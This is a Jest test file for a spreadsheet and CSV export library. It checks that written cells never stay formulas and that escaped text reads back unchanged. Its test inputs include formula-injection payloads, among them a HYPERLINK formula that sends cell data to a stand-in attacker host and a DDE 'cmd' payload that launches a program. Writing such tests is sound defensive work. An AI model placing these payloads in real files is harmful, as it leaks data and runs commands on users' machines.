/** What people typed and a spreadsheet program would compute: written as text by everything that writes. */
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { readTable } from '../../../src/documents/table.js';
import { writeTemplate } from '../../../src/documents/template.js';
import { csvLine } from '../../../src/documents/text.js';
import { writeTable } from '../../../src/documents/write.js';
import { csvOf } from '../../../src/evaluation/evaluate-table.js';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  "=cmd|'/c calc'!A0",
];
const PLAIN = ['-12.5', '+8', '三余镇', 'a=b', "it's", '1-2'];

/** Every cell of every sheet, as Excel would see it. */
async function cellsOf(content: Buffer): Promise<ExcelJS.CellValue[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(content as unknown as ArrayBuffer);
  const found: ExcelJS.CellValue[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell(({ value }) => found.push(value));
    });
  }
  return found;
}

/** Text that a spreadsheet computes, now or when it is saved as csv and opened again. */
const isComputed = (value: ExcelJS.CellValue): boolean =>
  typeof value === 'string'
    ? /^[=+\-@\t\r\n＝＋－＠]/.test(value) && !PLAIN.includes(value)
    : typeof value === 'object' && value !== null && !('richText' in value);

describe('a workbook', () => {
  it('holds no formula: in cells, heads, lines above and figures that are none', async () => {
    const content = await buffer(
      writeTable(
        [{ title: '=1+1' }, { title: '值', kind: 'number' }, { title: '日', kind: 'date' }],
        FORMULAS.map((text) => [text, text, { text, fault: true }]),
        { above: ['=1+1'] },
      ),
    );
    const cells = await cellsOf(content);
    expect(cells.length).toBe(FORMULAS.length * 3 + 4);
    expect(cells.filter(isComputed)).toEqual([]);
  });

  it('to fill in holds none: in titles, examples, choices and help', async () => {
    const column = { note: '', required: true, kind: 'text' } as const;
    const content = await writeTemplate({
      sheet: '数据',
      columns: FORMULAS.map((text) => ({
        ...column,
        title: text,
        example: text,
        choices: { words: [text], strict: true },
      })),
      help: FORMULAS,
    });
    const cells = await cellsOf(content);
    expect(cells.length).toBe(FORMULAS.length * 4);
    expect(cells.filter(isComputed)).toEqual([]);
  });
});

describe('a csv', () => {
  it.each([
    ['a line', (text: string) => csvLine(['名称', text])],
    [
      'a table of results',
      (text: string) => csvOf({ columns: [{ title: '名称' }, { title: text }], rows: [] }),
    ],
  ])('has no cell that is computed: %s', (_, write) => {
    for (const text of FORMULAS) {
      expect(write(text)).toMatch(/^名称,"?'/);
      expect((write(text).match(/"/g)?.length ?? 0) % 2).toBe(0);
    }
    for (const text of PLAIN) expect(write(text)).toBe(`名称,${text}`);
  });
});

describe('what was made harmless', () => {
  it('is what was typed again when it is read back, from either kind of file', async () => {
    const folder = mkdtempSync(path.join(os.tmpdir(), 'bm-formulas-'));
    const texts = [...FORMULAS, ...PLAIN].filter((text) => text === text.trim());
    const lines = texts.map((text) => csvLine(['x', text])).join('\r\n');
    const book = await buffer(
      writeTable(
        [{ title: 'x' }, { title: 'y' }],
        texts.map((text) => ['x', text]),
      ),
    );
    try {
      for (const [name, content, skip] of [
        ['a', lines, 0],
        ['b', book, 1],
      ] as const) {
        const file = path.join(folder, name);
        writeFileSync(file, content);
        const found: (string | undefined)[] = [];
        for await (const { cells } of readTable(file)) found.push(cells[1]);
        expect(found.slice(skip)).toEqual(texts);
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

describe('the writers', () => {
  it('are these: whatever else makes a table goes through them', () => {
    const sources = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((file) =>
      file.endsWith('.ts'),
    );
    const making = (pattern: RegExp): string[] =>
      sources.filter((file) => pattern.test(readFileSync(path.join('src', file), 'utf8'))).sort();
    expect(making(/import\('exceljs'\)/)).toEqual(['documents/template.ts', 'documents/write.ts']);
    for (const file of making(/text\/csv|\\r\\n`/)) {
      expect(readFileSync(path.join('src', file), 'utf8')).toMatch(/csvLine|csvOf|desk\.csv/);
    }
  });
});
